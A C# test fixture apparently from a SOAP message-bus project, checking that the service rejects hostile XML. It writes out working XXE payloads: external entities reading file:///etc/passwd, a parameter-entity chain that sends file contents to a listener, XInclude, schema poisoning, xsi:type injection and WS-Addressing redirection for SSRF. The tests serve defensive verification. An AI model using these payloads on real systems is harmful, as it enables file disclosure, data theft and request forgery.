using System.Net;
using Microsoft.AspNetCore.Http;
using Soa.Bus.Testing.Proofs;
using Soa.Testing.Flows;

namespace Soa.Bus.Tests.Security.Attacks;

/// <summary>
/// Documents that want the reader to read or call something else: files of this machine, a listener inside of the network.
/// </summary>
[TestFixture]
internal sealed class A_document_that_reaches_out : AttackSituation
{
    private Partner listener = null!;
    private int heard;

    [OneTimeSetUp]
    public async Task Listen() => listener = await Partner.StartAsync(context =>
    {
        Interlocked.Increment(ref heard);
        return context.Response.WriteAsync("<!ENTITY e 'heard'>");
    });

    [OneTimeTearDown]
    public async Task Deafen()
    {
        await listener.DisposeAsync();
        Assert.That(heard, Is.Zero, "nothing may have been fetched");
    }

    [TestCaseSource(nameof(Declarations))]
    [Attack("External entities and DTDs")]
    public async Task External_entities(string path, string declaration)
    {
        var answer = await FailsAsync(path, declaration.Replace("{listener}", listener.Address) + Envelope(WithValue(path, "&e;")));
        Assert.That(answer.Text, Does.Not.Contain("heard").And.Not.Contain("/bin/"));
    }

    [TestCaseSource(nameof(Targets))]
    [Attack("XInclude")]
    public async Task Included_documents(string path)
    {
        var answer = await FailsAsync(path, Envelope(WithValue(path, "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' "
            + "parse='text' href='file:///etc/passwd'/>")));
        Assert.That(answer.Text, Does.Not.Contain("/bin/"));
    }

    [TestCaseSource(nameof(Targets))]
    [Attack("Schema poisoning")]
    public async Task Schemas_named_by_the_document(string path)
    {
        const string ours = "http://soa.example.com/desk/v1 {0}/own.xsd urn:acme {0}/own.xsd";
        var located = WithAttributes(path, "xmlns:i='http://www.w3.org/2001/XMLSchema-instance' "
            + $"i:schemaLocation='{ours.Replace("{0}", listener.Address)}' i:noNamespaceSchemaLocation='{listener.Address}/x.xsd'");
        await FailsAsync(
            path, Envelope(located.Replace("</Number>", "</Number><Extra/>").Replace("</CardNumber>", "</CardNumber><Extra/>")));

        // A schema within the document says what we say not.
        const string inline = "<xs:schema xmlns:xs='http://www.w3.org/2001/XMLSchema' targetNamespace='urn:acme'>"
            + "<xs:element name='Ask' type='xs:anyType'/></xs:schema>";
        await FailsAsync(path, Envelope(inline + GoodBody(path)));
        await FailsAsync(path, Envelope(WithElements(path, inline.Replace("<xs:element", "<xs:include schemaLocation='file:///etc/"
            + "passwd'/><xs:element") + "<Extra/>")));
    }

    [Test]
    [Attack("Types named by the document (xsi:type)")]
    public async Task Types_named_by_the_document(
        [ValueSource(nameof(Targets))] string path,
        [Values("x:anyType", "x:string", "c:Process", "i:nil")] string type) => await FailsAsync(path, Envelope(WithAttributes(
        path, "xmlns:i='http://www.w3.org/2001/XMLSchema-instance' xmlns:x='http://www.w3.org/2001/XMLSchema' "
            + $"xmlns:c='clr-namespace:System' i:type='{type}'")));

    [Test]
    [Attack("WS-Addressing redirection (SSRF)", "Addresses")]
    public async Task Answers_sent_elsewhere(
        [ValueSource(nameof(Targets))] string path, [Values("ReplyTo", "FaultTo", "From")] string header, [Values] bool fails)
    {
        const string wsa = "http://www.w3.org/2005/08/addressing";
        var calls = Host.Calls;
        var headers = $"<w:MessageID xmlns:w='{wsa}'>urn:uuid:{Guid.NewGuid()}</w:MessageID>"
            + $"<w:{header} xmlns:w='{wsa}'><w:Address>{listener.Address}/caught</w:Address></w:{header}>";
        if (header == "From")
        {
            // It says who asks and asks for nothing, so it is no reason to refuse; nor to call there.
            Assert.That(
                (await CallAsync(path, fails ? "<x/>" : GoodBody(path), headers)).Status,
                Is.EqualTo(fails ? HttpStatusCode.InternalServerError : HttpStatusCode.OK));
            return;
        }

        await FailsAsync(path, Envelope(fails ? "<x/>" : GoodBody(path), headers));
        Assert.That(Host.Calls, Is.EqualTo(path == Service ? calls + 1 : calls), "only the good call after it was made");
    }

    private static IEnumerable<TestCaseData> Declarations() =>
        from path in Targets
        from declaration in (string[])
        [
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM '{listener}/secret'>]>",
            "<!DOCTYPE x SYSTEM '{listener}/x.dtd'>",
            "<!DOCTYPE x PUBLIC '-//W3C//DTD XHTML 1.0//EN' '{listener}/x.dtd'>",
            "<!DOCTYPE x [<!ENTITY % p SYSTEM '{listener}/x.ent'> %p;]>",
            "<!DOCTYPE x [<!ENTITY % f SYSTEM 'file:///etc/passwd'><!ENTITY % p '<!ENTITY e SYSTEM \"{listener}/?%f;\">'> %p;]>",
            "<!DOCTYPE x>",
            "<?xml version='1.0' standalone='no'?><!DOCTYPE x SYSTEM 'file:///dev/random'>",
            "<?xml-stylesheet href='{listener}/x.xsl' type='text/xsl'?>",
        ]
        select new TestCaseData(path, declaration);
}
